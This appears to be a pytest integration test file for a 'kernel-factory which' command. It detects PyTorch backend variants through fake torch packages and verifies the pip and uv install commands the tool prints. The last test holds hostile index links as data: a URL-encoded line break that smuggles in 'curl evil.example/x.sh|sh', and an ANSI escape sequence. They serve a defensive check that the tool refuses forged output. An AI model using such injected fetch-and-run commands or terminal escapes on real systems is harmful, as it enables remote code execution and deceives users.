"""``kernel-factory which`` against real interpreters: torch 2.13 CPU for real; CUDA, ROCm, XPU and Metal
through a fake ``torch`` package installed in the probed venv (a fake of the environment, not of our code).
The commands it prints install the kernel with real pip and uv from an index served on 127.0.0.1."""

from __future__ import annotations

import json
import shlex
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from index_synth import add_kernel
from kernel_factory.index.command import index_with_adoption
from support import clean_env, fresh_venv, http_server, kf, run

pytestmark = pytest.mark.integration
UV = shutil.which("uv") or str(Path(sys.executable).with_name("uv"))

FAKE_TORCH = '''
__version__ = {version!r}
class version:
    cuda = {cuda!r}
    hip = {hip!r}
    xpu = {xpu!r}
class _mps:
    @staticmethod
    def is_available():
        return {mps!r}
class backends:
    mps = _mps
class _C:
    _GLIBCXX_USE_CXX11_ABI = {abi!r}
if {darwin!r}:  # a Mac: the probe reads platform after importing torch
    import platform
    platform.system = lambda: "Darwin"
    platform.machine = lambda: "arm64"
'''

FAKES: dict[str, tuple[dict[str, object], str, str]] = {  # name -> (fake torch fields, variant, label)
    "cuda": (dict(version="2.13.0+cu130", cuda="13.0"), "torch213-cxx11-cu130-x86_64-linux", "torch213cu130cxx11"),
    "rocm": (dict(version="2.12.0+rocm7.1", hip="7.1.25424-4179531dcd"), "torch212-cxx11-rocm71-x86_64-linux",
             "torch212rocm71cxx11"),
    "xpu": (dict(version="2.13.0+xpu", xpu="20250101"), "torch213-cxx11-xpu20251-x86_64-linux",
            "torch213xpu20251cxx11"),
    "metal": (dict(version="2.13.0", mps=True, darwin=True), "torch213-metal-aarch64-darwin", "torch213metal"),
    "cxx98": (dict(version="2.12.0+cu126", cuda="12.6", abi=False), "torch212-cxx98-cu126-x86_64-linux",
              "torch212cu126cxx98"),
}  # fmt: skip


def fake_python(folder: Path, **fields: object) -> Path:
    """A venv without pip whose site-packages holds a fake torch with these torch.version fields."""
    run(sys.executable, "-m", "venv", "--without-pip", folder)
    python = folder / "bin" / "python"
    site = run(python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])").stdout.strip()
    values = {"cuda": None, "hip": None, "xpu": None, "mps": False, "abi": True, "darwin": False, **fields}
    (Path(site) / "torch").mkdir()
    (Path(site) / "torch" / "__init__.py").write_text(FAKE_TORCH.format(**values))
    return python


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    store = tmp_path_factory.mktemp("which") / "public"
    for version, variants in {
        "1.1.0": ("torch213-cxx11-cpu-x86_64-linux", "torch212-cxx11-cu130-x86_64-linux"),
        "1.2.0": ("torch213-cxx11-cpu-x86_64-linux", "torch213-cxx11-cpu-aarch64-linux",
                  "torch212-cxx11-cu130-x86_64-linux", "torch213-cxx11-cu126-x86_64-linux",
                  "torch211-cxx11-cu130-x86_64-linux", "torch213-cxx11-rocm71-x86_64-linux"),
    }.items():  # fmt: skip
        for variant in variants:
            add_kernel(store, "img2grey", version, variant)
    index_with_adoption(str(store), store, None, "http://127.0.0.1")
    with http_server(store) as url:
        yield url


@pytest.fixture(scope="module")
def cpu_python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return fresh_venv(tmp_path_factory.mktemp("cpu") / "venv", torch=True)


def which(*args: str | Path) -> tuple[int, str, str]:
    proc = kf("which", *args, env=clean_env())
    return proc.returncode, proc.stdout, proc.stderr


@pytest.mark.parametrize("kind", sorted(FAKES))
def test_fake_backends(kind: str, tmp_path: Path) -> None:
    fields, variant, label = FAKES[kind]
    python = fake_python(tmp_path / kind, **fields)
    code, out, err = which("--python", python, "--json")
    assert code == 0, err
    env = json.loads(out)["environment"]
    assert (env["variant"], env["label"], env["root"]) == (variant, label, f"variants/{label}/simple/")


def test_cpu_torch_installs_with_pip_and_uv(cpu_python: Path, index: str) -> None:
    code, out, err = which("--python", cpu_python)
    assert code == 0, err
    assert "variant  torch213-cxx11-cpu-x86_64-linux\n" in out and "label    torch213cpucxx11\n" in out
    code, out, err = which("--python", cpu_python, "--index-url", index, "--kernel", "IMG2GREY", "--json")
    assert code == 0, err
    doc = json.loads(out)
    root = f"{index}/variants/torch213cpucxx11/simple"
    assert doc["version"] == "1.2.0+torch213cpucxx11" and doc["index"] == root
    assert doc["pip"] == shlex.join([str(cpu_python), "-m", "pip", "install", "img2grey==1.2.0+torch213cpucxx11",
                                     "--index-url", root])
    run(*shlex.split(doc["pip"]), "--no-cache-dir", env=clean_env())
    check = (cpu_python, "-c", "import img2grey; print(img2grey.__version__)")
    assert run(*check).stdout.strip() == "1.2.0+torch213cpucxx11"
    run(cpu_python, "-m", "pip", "uninstall", "-y", "-q", "img2grey", env=clean_env())
    uv = shlex.split(doc["uv"])
    assert uv[:5] == ["uv", "pip", "install", "--python", str(cpu_python)]
    run(UV, *uv[1:], "--no-cache", env=clean_env(UV_NO_CONFIG="1"))
    assert run(*check).stdout.strip() == "1.2.0+torch213cpucxx11"


def test_no_fit_lists_builds_nearest_first(tmp_path: Path, index: str) -> None:
    python = fake_python(tmp_path / "cu", version="2.13.1+cu130", cuda="13.0")
    code, out, _ = which("--python", python, "--index-url", index, "--kernel", "img2grey", "--json")
    assert code == 3
    builds = [(b["label"], b["platform"]) for b in json.loads(out)["builds"]]
    assert builds == [
        ("torch212cu130cxx11", "linux_x86_64"),  # same backend, the nearest other torch
        ("torch211cu130cxx11", "linux_x86_64"),  # same backend, a farther torch
        ("torch213cu126cxx11", "linux_x86_64"),  # same torch, same backend with another version
        ("torch213cpucxx11", "linux_x86_64"),  # same torch, another backend
        ("torch213rocm71cxx11", "linux_x86_64"),
        ("torch213cpucxx11", "linux_aarch64"),  # another platform last among equals
    ]
    code, out, _ = which("--python", python, "--index-url", index, "--kernel", "img2grey")
    assert code == 3
    assert "no build of img2grey" in out and "torch212cu130cxx11  linux_x86_64  1.2.0, 1.1.0" in out


def test_unknown_kernel_and_bad_python(cpu_python: Path, index: str, tmp_path: Path) -> None:
    code, _, err = which("--python", cpu_python, "--index-url", index, "--kernel", "nope")
    assert code == 2 and "no such project" in err
    code, _, err = which("--python", tmp_path / "missing")
    assert code == 2 and "no such interpreter" in err


@pytest.mark.parametrize("href", [
    "../../../files/evil-1.0-py3-none-any.whl%0Apip%20%20%20%20%20%20curl%20evil.example/x.sh%7Csh%0A.whl",
    "../../../files/evil-1.0-py3-none-any%1B%5B8m.whl",
])  # fmt: skip
def test_an_index_cannot_forge_what_which_prints(href: str, cpu_python: Path, tmp_path: Path) -> None:
    """A link whose name carries a line break or an escape: refused in one line, nothing printed raw."""
    site = tmp_path / "site"
    for page in ("simple/evil", "variants/torch213cpucxx11/simple/evil"):
        (site / page).mkdir(parents=True)
        link = f'<a href="{href}#sha256={"0" * 64}">evil</a>'
        (site / page / "index.html").write_text(f"<html><body>{link}</body></html>")
    with http_server(site) as url:
        code, out, err = which("--python", cpu_python, "--index-url", url, "--kernel", "evil")
    assert (code, out) == (3, "")
    assert len(err.splitlines()) == 1 and "\x1b" not in err
    line = err.strip()
    assert line.startswith(f"error: {url}/variants/torch213cpucxx11/simple/evil/ lists ") and line.endswith(
        "fix the index"), line
    assert line.isprintable()
